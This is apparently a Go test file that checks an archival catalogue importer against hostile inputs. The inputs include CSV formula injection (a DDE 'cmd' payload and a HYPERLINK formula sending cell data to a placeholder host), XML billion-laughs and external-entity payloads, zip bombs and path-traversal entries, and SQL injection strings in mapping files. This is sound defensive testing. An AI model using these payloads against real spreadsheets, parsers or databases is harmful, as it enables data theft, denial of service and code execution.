package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// formulas are texts that a spreadsheet would carry out.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1", "　=1+1", "'=1+1", "''=1+1",
	`=HYPERLINK("http://x/?"&A1,"点此")`, "=1+1\n=2+2", "%0A=1+1", ";=1+1", "=", "-", "\u00a0=1+1",
}

// Whatever stands in a record, no file that is written for spreadsheets has a formula, and
// the text comes back as it was.
func TestHostileFormulas(t *testing.T) {
	a := newTarget(t)
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	rows := [][]string{{"档号", "题名", "责任者", "登记号"}}
	for i, f := range formulas {
		rows = append(rows, []string{fmt.Sprintf("0001-WS·1985-Y-BGS-%04d", i+3), "题" + f, f, f})
		rows = append(rows, []string{f, f, f, f}) // is rejected, into a file of its own
	}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	table, mapping := filepath.Join(a.dir, "table.csv"), filepath.Join(a.dir, "map.json")
	a.write(table, in.Bytes())
	a.wants([]int{exitDone}, "import", "--save-map", mapping, "catalogue", table)
	keepColumn(t, mapping, "登记号")
	rejects := filepath.Join(a.dir, "rejects.csv")
	r := a.json([]int{exitRefused}, "import", "--map", mapping, "--rejects", rejects, "catalogue", table)
	if r["added"] != float64(len(formulas)) {
		t.Fatalf("added %v of %d: %.3000v", r["added"], len(formulas), r)
	}
	a.json([]int{exitRefused}, "import", "--map", mapping, "--rejects", filepath.Join(a.dir, "rejects.xlsx"), "catalogue", table)
	for _, name := range []string{"out.csv", "out.xlsx"} {
		a.wants([]int{exitDone}, "export", "catalogue", filepath.Join(a.dir, name))
	}
	a.run("link", "--by", "path", "--column", "登记号", "--dry-run", "--report", filepath.Join(a.dir, "plan.csv"))
	a.run("link", "--check", "--report", filepath.Join(a.dir, "check.csv"))
	files, err := filepath.Glob(filepath.Join(a.dir, "*.*"))
	if err != nil || len(files) < 6 {
		t.Fatalf("%v %v", files, err)
	}
	for _, f := range files {
		switch {
		case f == table || f == mapping || f == a.bait:
		case filepath.Ext(f) == ".csv":
			csvWithoutFormulas(t, f)
		case filepath.Ext(f) == ".xlsx":
			xlsxWithoutFormulas(t, f)
		}
	}
	// The export is the catalogue: read again, it is all there already.
	for _, name := range []string{"out.csv", "out.xlsx"} {
		again := a.json([]int{exitDone}, "import", "--dry-run", "catalogue", filepath.Join(a.dir, name))
		if again["already"] != again["rows"] || again["rows"] != float64(len(formulas)+2) {
			t.Errorf("%s comes back changed: %.2000v", name, again)
		}
	}
}

// keepColumn makes a column of a mapping a field of the site's own.
func keepColumn(t *testing.T, mapping, name string) {
	t.Helper()
	b, err := os.ReadFile(mapping)
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]any{}
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, c := range m["columns"].([]any) {
		if c := c.(map[string]any); c["name"] == name {
			c["extra"] = name
			delete(c, "field")
		}
	}
	if b, err = json.Marshal(m); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(mapping, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func csvWithoutFormulas(t *testing.T, path string) {
	t.Helper()
	for _, row := range table(t, path) {
		for _, cell := range row {
			if begin := strings.TrimLeft(cell, " \u00a0\u3000"); begin != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(begin)[0]) {
				t.Errorf("%s: a cell is a formula: %q", filepath.Base(path), cell)
			}
		}
	}
}

func xlsxWithoutFormulas(t *testing.T, path string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	sheets := 0
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(f.Name, "xl/worksheets/") {
			sheets++
		}
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) || bytes.Contains(b, []byte("ddeLink")) || bytes.Contains(b, []byte("externalLink")) {
			t.Errorf("%s: %s has a formula or a link", filepath.Base(path), f.Name)
		}
	}
	if sheets == 0 {
		t.Errorf("%s has no sheet", path)
	}
}

// part is one file of a workbook.
type part struct {
	name    string
	content string
}

const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

// workbook packs a sheet with one good row, or other parts instead of those it has.
func workbook(t *testing.T, other ...part) []byte {
	t.Helper()
	parts := []part{
		{"[Content_Types].xml", `<Types/>`},
		{"_rels/.rels", `<Relationships><Relationship Id="r" Type="` + relations + `officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<workbook><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="rId1" Type="` + relations + `worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="` + relations + `sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" Type="` + relations + `styles" Target="styles.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", sheetXML("", "关于做好工作的通知")},
		{"xl/sharedStrings.xml", `<sst><si><t>x</t></si></sst>`},
		{"xl/styles.xml", `<styleSheet/>`},
	}
	for _, o := range other {
		replaced := false
		for i := range parts {
			if parts[i].name == o.name {
				parts[i], replaced = o, true
			}
		}
		if !replaced {
			parts = append(parts, o)
		}
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestCompression) })
	for _, p := range parts {
		h := zip.FileHeader{Name: p.name, Method: zip.Deflate}
		if p.content == "" {
			h.Method = zip.Store
		}
		w, err := z.CreateHeader(&h)
		if err == nil {
			_, err = io.WriteString(w, p.content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// sheetXML is a sheet with a head and one record, behind a prologue.
func sheetXML(prologue, title string) string {
	cell := func(s string) string { return `<c t="inlineStr"><is><t>` + s + `</t></is></c>` }
	return prologue + `<worksheet><sheetData><row r="1">` + cell("档号") + cell("题名") + `</row><row r="2">` + cell("0001-WS·1985-Y-BGS-0009") + cell(title) + `</row></sheetData></worksheet>`
}

// laughs is an entity that stands for a thousand million letters.
func laughs() string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
	}
	return b.String() + "]>"
}

// Workbooks that mean to read files, to fill memory or to run on are refused with a sentence.
// Nothing of a file outside is ever read into the catalogue.
func TestHostileWorkbooks(t *testing.T) {
	a := newTarget(t)
	external := `<!DOCTYPE w [<!ENTITY e SYSTEM "file://` + a.bait + `">]>`
	zeros := strings.Repeat("0", 64<<20)
	tests := []struct {
		name  string
		parts []part
		taken bool // it may be read, since what is evil in it is passed over
	}{
		{"billion laughs in the sheet", []part{{"xl/worksheets/sheet1.xml", sheetXML(laughs(), "&l9;")}}, false},
		{"billion laughs in shared strings", []part{{"xl/sharedStrings.xml", laughs() + "<sst><si><t>&l9;</t></si></sst>"}}, false},
		{"billion laughs in the workbook", []part{{"xl/workbook.xml", laughs() + `<workbook><sheets><sheet name="&l9;" r:id="rId1"/></sheets></workbook>`}}, false},
		{"billion laughs in relations", []part{{"xl/_rels/workbook.xml.rels", laughs() + `<Relationships><Relationship Id="&l9;"/></Relationships>`}}, false},
		{"billion laughs in styles", []part{{"xl/styles.xml", laughs() + `<styleSheet><numFmts><numFmt formatCode="&l9;"/></numFmts></styleSheet>`}}, false},
		{"external entity in the sheet", []part{{"xl/worksheets/sheet1.xml", sheetXML(external, "&e;")}}, false},
		{"external entity in shared strings", []part{{"xl/sharedStrings.xml", external + "<sst><si><t>&e;</t></si></sst>"}}, false},
		{"parameter entity", []part{{"xl/worksheets/sheet1.xml", sheetXML(`<!DOCTYPE w [<!ENTITY % p SYSTEM "file://`+a.bait+`"> %p;]>`, "x")}}, true},
		{"DTD from the network", []part{{"xl/worksheets/sheet1.xml", sheetXML(`<!DOCTYPE w SYSTEM "http://127.0.0.1:1/w.dtd">`, "x")}}, true},
		{"sheet by a path outside", []part{{"xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="rId1" Type="` + relations + `worksheet" Target="../../../../../../..` + a.bait + `"/></Relationships>`}}, false},
		{"sheet by an address", []part{{"xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="rId1" TargetMode="External" Type="` + relations + `worksheet" Target="file://` + a.bait + `"/></Relationships>`}}, false},
		{"names of parts lead outside", []part{{"../../../bait.jpg", "evil"}, {a.bait, "evil"}}, true},
		{"cell of 64 million letters", []part{{"xl/worksheets/sheet1.xml", sheetXML("", zeros)}}, false},
		{"blank of 64 million bytes", []part{{"xl/worksheets/sheet1.xml", sheetXML(strings.Repeat(" ", 64<<20), "x")}}, true},
		{"attribute of 64 million letters", []part{{"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row r="` + zeros + `"/></sheetData></worksheet>`}}, false},
		{"shared strings of 64 million letters", []part{{"xl/sharedStrings.xml", "<sst><si><t>" + zeros + "</t></si></sst>"}}, false},
		{"styles of 64 million letters", []part{{"xl/styles.xml", `<styleSheet><numFmts><numFmt numFmtId="1" formatCode="` + zeros + `"/></numFmts></styleSheet>`}}, true},
		{"a million elements one in another", []part{{"xl/worksheets/sheet1.xml", strings.Repeat("<a>", 1<<20)}}, false},
		{"comment without an end", []part{{"xl/worksheets/sheet1.xml", "<!--" + zeros}}, false},
		{"column beyond all", []part{{"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row></sheetData></worksheet>`}}, false},
		{"a merge over everything", []part{{"xl/worksheets/sheet1.xml", strings.Replace(sheetXML("", "x"), "</worksheet>", strings.Repeat(`<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`, 1000)+"</worksheet>", 1)}}, true},
	}
	for i, tt := range tests {
		path := filepath.Join(a.dir, "in", fmt.Sprintf("%d.xlsx", i))
		a.write(path, workbook(t, tt.parts...))
		r := a.run("import", "--json", "--dry-run", "catalogue", path)
		if r.code == exitDone && !tt.taken || strings.Contains(r.out+r.told, baited) {
			t.Errorf("%s: exit %d\n%.500s%.500s", tt.name, r.code, r.out, r.told)
		}
		var e struct {
			Error struct{ Kind, Message string }
		}
		if err := json.Unmarshal([]byte(r.out), &e); err != nil || r.code == exitFailed && e.Error.Message == "" || e.Error.Kind == "internal" {
			t.Errorf("%s: no sentence: %v %.500s", tt.name, err, r.out)
		}
		t.Logf("%-38s exit %d in %4d ms  %.90s", tt.name, r.code, r.took.Milliseconds(), e.Error.Message)
	}
	a.unharmed(filepath.Join(a.dir, "in"))
}

// Packages that unpack to far more than they are, or are not what they say.
func TestHostilePackages(t *testing.T) {
	a := newTarget(t)
	bomb := workbook(t, part{"xl/worksheets/sheet1.xml", sheetXML("<!--"+strings.Repeat(" ", 100<<20)+"-->", "x")})
	if len(bomb) > 1<<20 {
		t.Fatalf("the bomb has %d bytes", len(bomb))
	}
	many := make([]part, 100_000)
	for i := range many {
		many[i] = part{fmt.Sprintf("xl/media/%d", i), ""}
	}
	cut := workbook(t)
	for name, content := range map[string][]byte{
		"bomb": bomb, "a hundred thousand parts": workbook(t, many...), "cut": cut[:len(cut)/2], "end only": cut[len(cut)-30:],
		"package in front of rubbish": append(bytes.Clone(cut), bytes.Repeat([]byte("x"), 1<<20)...),
		"sheet twice":                 workbook(t, part{"xl/worksheets/Sheet1.xml", sheetXML("", "y")}, part{"xl/worksheets/sheet1.xml ", sheetXML("", "z")}),
		"zip in itself":               workbook(t, part{"xl/worksheets/sheet1.xml", string(cut)}),
	} {
		path := filepath.Join(a.dir, "in", name+".xlsx")
		a.write(path, content)
		for _, args := range [][]string{{"import", "--dry-run", "catalogue", path}, {"ingest", filepath.Dir(path)}} {
			r := a.run(args...)
			t.Logf("%-28s %-7s exit %d in %d ms", name, args[0], r.code, r.took.Milliseconds())
		}
		_ = os.Remove(path)
	}
	a.unharmed(filepath.Join(a.dir, "in"))
}

// A mapping is a file that people exchange, too.
func TestHostileMappings(t *testing.T) {
	a := newTarget(t)
	table := filepath.Join(a.dir, "in", "t.csv")
	a.write(table, []byte("档号,题名,x\n0001-WS·1985-Y-BGS-0009,题名,1\n"))
	column := func(extra string) string {
		b, _ := json.Marshal(extra)
		return `{"version":1,"header":1,"columns":[{"index":0,"field":"code"},{"index":1,"field":"title"},{"index":2,"extra":` + string(b) + `}]}`
	}
	for name, m := range map[string]string{
		"own field is SQL":      column(`x'); DROP TABLE holding; --`),
		"own field is SQL, too": column(`x" = "x`),
		"own field is empty":    column(" "),
		"own field is long":     column(strings.Repeat("长", 100_000)),
		"own field with zero":   column("a\x00b"),
		"field is SQL":          `{"version":1,"header":1,"columns":[{"index":0,"field":"code FROM holding; --"},{"index":1,"field":"title"}]}`,
		"column beyond all":     `{"version":1,"header":1,"columns":[{"index":2000000000,"field":"code"},{"index":-1,"field":"title"}]}`,
		"header beyond all":     `{"version":1,"header":999999999999,"columns":[{"index":0,"field":"code"}]}`,
		"a million columns":     `{"version":1,"header":1,"columns":[` + strings.Repeat(`{"index":0,"field":"title"},`, 100_000) + `{"index":0,"field":"code"}]}`,
		"deep":                  strings.Repeat("[", 1<<20),
		"no JSON":               "=1+1",
		"sheet leads outside":   `{"version":1,"header":1,"sheet":"../../bait.jpg","columns":[{"index":0,"field":"code"},{"index":1,"field":"title"}]}`,
		"series is SQL":         `{"version":1,"header":1,"series":"' OR 1=1 --","columns":[{"index":0,"field":"code"},{"index":1,"field":"title"}]}`,
		"of a later version":    `{"version":99,"header":1,"columns":[]}`,
		"version is no number":  `{"version":"x"}`,
	} {
		path := filepath.Join(a.dir, "in", "map.json")
		a.write(path, []byte(m))
		r := a.run("import", "--map", path, "--dry-run", "--json", "catalogue", table)
		t.Logf("%-24s exit %d in %d ms %.120s", name, r.code, r.took.Milliseconds(), r.out)
		if strings.HasPrefix(name, "own field") { // what a trial lets through is tried
			b := newTarget(t)
			r = b.run("import", "--map", path, "--json", "--rejects", filepath.Join(b.dir, "rejects.csv"), "catalogue", table)
			for _, args := range [][]string{{"item", "list", "--fonds", "0001"}, {"item", "show", "0001-WS·1985-Y-BGS-0009"}, {"history", "0001-WS·1985-Y-BGS-0009"},
				{"export", "catalogue", filepath.Join(b.dir, "out.xlsx")}, {"link", "--by", "path", "--column", "x", "--dry-run"}, {"audit", "verify"}} {
				if args[0] != "link" && args[1] != "show" && args[0] != "history" {
					b.wants([]int{exitDone}, args...)
				} else {
					b.run(args...)
				}
			}
		}
		if strings.Contains(r.out, `"kind":"internal"`) {
			t.Errorf("%s: %.500s", name, r.out)
		}
	}
	a.unharmed(filepath.Join(a.dir, "in"))
}
